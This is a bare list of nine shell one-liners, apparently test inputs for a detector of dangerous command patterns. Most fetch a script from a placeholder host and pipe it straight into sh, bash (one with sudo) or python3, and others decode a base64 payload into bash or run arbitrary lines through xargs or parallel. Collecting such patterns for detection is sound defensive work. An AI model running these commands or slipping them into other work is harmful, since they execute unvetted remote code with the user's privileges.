curl -fsSL https://x.example/install.sh | sh
wget -qO- https://x.example | sudo bash -s -- -y
bash <(curl -s https://x.example)
cat unknown.sh | sh
base64 -d payload | bash
curl https://x.example | python3
source <(curl -s https://x.example)
cat list | xargs -I{} sh -c '{}'
printf 'echo ok\n' | parallel
